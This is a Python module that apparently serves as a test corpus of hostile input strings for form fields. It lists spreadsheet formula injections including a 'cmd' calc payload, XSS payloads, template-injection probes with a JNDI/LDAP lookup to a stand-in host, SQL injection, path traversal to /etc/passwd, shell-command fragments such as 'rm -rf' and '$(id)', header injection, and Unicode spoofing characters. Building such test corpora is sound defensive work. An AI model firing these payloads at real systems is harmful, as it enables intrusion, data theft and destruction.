"""Five hundred strings that somebody may put into a field: formulas, markup, templates, paths, breaks, directions.

`HALVES` are lone halves of characters: JSON carries them, UTF-8 does not. `LONG` are longer than any field.
"""

import itertools

FORMULAS = ("=1+1", "+33 2 98", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")', "=IMPORTXML(1)")
WIDE = ("＝1+1", "＋1", "－1", "＠SUM", "﹦1", "﹢1", "﹣1", "﹫x", "−1", "⁼1")
BEFORE = ("", " ", "\t", "\r", "\n", "'", "''", "\u200b", "\ufeff", "\u00a0", "' ", "\x00", "\u202e")
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "%(name)s", "%s%n", "{0}")
ODD = ('"', '";"', "a;b,c\td", 'he said "no"', "a\r\nb", "_x0041_", "&amp;", "]]>", "../../etc/passwd", "\u2028", "\\")
TEXTS = (
    "É" * 40,
    "e\u0301",
    "𝕊𝕖𝕣𝕚𝕒𝕝",
    "مرحبا",
    "日本",
    "0012",
    "1E5",
    "TRUE",
    "#REF!",
    "2026-01-01",
    "x" * 119,
    "NULL",
)
OUT_OF = ("", '"', "'", '">', "'>", "</td>", "</title>", "</textarea>", "</option></select>", "-->", "]]>", "</script>")
ELEMENTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<b onclick=alert(1)>x</b>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//x.example>",
)
ATTRIBUTES = tuple(
    f"{quote}{space}{name}=alert(1){space}x={quote}"
    for quote, space, name in itertools.product(
        ('"', "'", "`"), (" ", "\t", "/"), ("onfocus", "onmouseover", "style", "autofocus onfocus")
    )
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//x.example/a",
    "/\\x.example",
    "http://x.example/?q=<b>",
    "https://x.example@y.example",
    "file:///etc/passwd",
    "?next=//x.example",
    "#<img src=x onerror=alert(1)>",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3e",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)",
    "<ScRiPt/x>alert(1)",
    "<base href=//x.example>",
    "<meta http-equiv=refresh content=0;url=//x.example>",
    "<link rel=stylesheet href=//x.example>",
    "<object data=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<input autofocus onfocus=alert(1)>",
)
TEMPLATES = (
    *("{{config}}", "{{''.__class__.__mro__}}", "{% for x in y %}", "{%raw%}", "{# x #}", "#{7*7}", "<%= 7*7 %>"),
    *(
        "${jndi:ldap://x.example}",
        "{{=<% %>=}}",
        "[[7*7]]",
        "@(7*7)",
        "*{7*7}",
        "~{7*7}",
        "%{7*7}",
        "{x!r}",
        "{0.__class__}",
    ),
    *("%", "%%", "%d", "%(", "%(a)d", "%1$s", "{", "}", "{}", "$x", "$(id)", "`id`", "; rm -rf x", "| cat", "&& id"),
)
PATHS = (
    *("..", "../", "..\\", "....//", "/etc/passwd", "C:\\x", "\\\\host\\x", "CON", "NUL.txt", "a/b", "a\\b", "~root"),
    *(
        ".htaccess",
        "-rf",
        "--help",
        "x.pdf.exe",
        "x.pdf\x00.exe",
        "x\u202efdp.exe",
        "%2e%2e%2f",
        "..%c0%af",
        "x.",
        "x ",
        ".",
    ),
    *(
        'a"; filename="b.exe',
        "a\r\nX-Injected: yes",
        "a\nSet-Cookie: x=y",
        "a%0d%0aX: y",
        "filename*=UTF-8''x",
        "a;b",
        "é.pdf",
    ),
)
STRUCTURES = (
    *(
        "'; DROP TABLE lot; --",
        "' OR '1'='1",
        '" OR ""="',
        "1) UNION SELECT 1",
        "\\'; x",
        "%_%",
        "/* x */",
        "--",
        "LIKE '%",
    ),
    *(
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y 'z'>]>",
        "&y;",
        "<![CDATA[x]]>",
        "<!-- x",
        "&#0;",
        "&#xD800;",
        "&",
    ),
    *(
        "(x) Tj ET",
        ") Tj",
        "(",
        ")",
        "\\)",
        "<< /JS (x) >>",
        "/JavaScript",
        "endobj",
        "endstream",
        "%PDF-1.7",
        "%%EOF",
        "<</S/URI>>",
    ),
    *(
        '"""',
        "'''",
        "[table]",
        "x = 1",
        '"\\',
        "# x",
        "a: b",
        "- x",
        "&anchor",
        "*alias",
        "!!python/object:x",
        "---",
        "|",
    ),
    *(
        '{"a":1}',
        "[1]",
        "null",
        "true",
        "NaN",
        "-0",
        "1e999",
        "\\u0000",
        '","x":"',
        "'",
        "\\n",
        "\\",
        "//",
        "undefined",
        "[object Object]",
    ),
    *(
        "# title",
        "**x**",
        "[x](javascript:alert(1))",
        "![x](//x.example)",
        "<x@y.example>",
        "a@b.example",
        "=?utf-8?q?x?=",
    ),
)
SIGNS = (
    *(f"\x1b[{code}" for code in ("31m", "2J", "H", "?25l", "1;1H", "0K", "6n")),
    *(
        "\x1b]0;title\x07",
        "\x1b]8;;http://x.example\x07x",
        "\x1bc",
        "\x9b31m",
        "\x07",
        "\x08\x08\x08",
        "\x7f",
        "\x0b",
        "\x0c",
    ),
    *(
        "\x85",
        "\x1a",
        "\x04",
        "\x00",
        "a\x00b",
        "\x1f",
        "\x80",
        "\x9f",
        "a\rb",
        "\n\n\n",
        "\r\n\r\n",
        "\u2029",
        "a\u2028b",
    ),
    *(
        f"a{mark}b"
        for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b"
        "\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e\ufff9\U000e0041"
    ),
    *(
        "e" + "\u0301" * 60,
        "\u0301",
        "Z͑ͫ̓ͪ̂a̴͊l͢g͝o̷",
        "ﷺ" * 10,
        "שלום",
        "abc שלום 123",
        "\u0628\u0651\u064e",
        "नमस्ते",
        "ก็็็็",
        "ᄀ" * 20,
    ),
    *(
        "👩‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇫🇷",
        "❤️",
        "👍🏿",
        "\U0001f9a0" * 20,
        "\U0010ffff",
        "\ufffd",
        "\ufffe",
        "\uffff",
        "\ufdd0",
        "\ue000",
        "ß",
        "İ",
        "ı",
        "ſ",
    ),
    *(
        "ﬁ",
        "½",
        "²",
        "Ⅷ",
        "１２３",
        "١٢٣",
        "K",
        "Å",
        "аdmin",
        "pаypal",
        "\u2024\u2024/",
        "\u2215",
        "\uff0f",
        "ʼ",
        "′",
        "″",
        "`",
        "´",
    ),
)
LENGTHS = ("x" * 200, "é" * 100, "日" * 80, " " * 50, "a " * 60, "-" * 100, "W" * 130)
LONG = ("x" * 65_536, "é" * 20_000, "<b>" * 6_000, "=1+1" + "x" * 40_000, "\u202e" * 30_000)
HALVES = ("\ud800", "\udfff", "a\ud83db", "\udc00\ud800", "=\ud800", "<\udfff>")
HOSTILE = tuple(
    dict.fromkeys(
        [
            *(before + word for before, word in itertools.product(BEFORE, (*FORMULAS[:5], *WIDE[:8]))),
            *FORMULAS,
            *WIDE,
            *MARKUP,
            *ODD,
            *TEXTS,
            *(out + element for out, element in itertools.product(OUT_OF, ELEMENTS)),
            *ATTRIBUTES,
            *ADDRESSES,
            *TEMPLATES,
            *PATHS,
            *STRUCTURES,
            *SIGNS,
            *LENGTHS,
        ]
    )
)
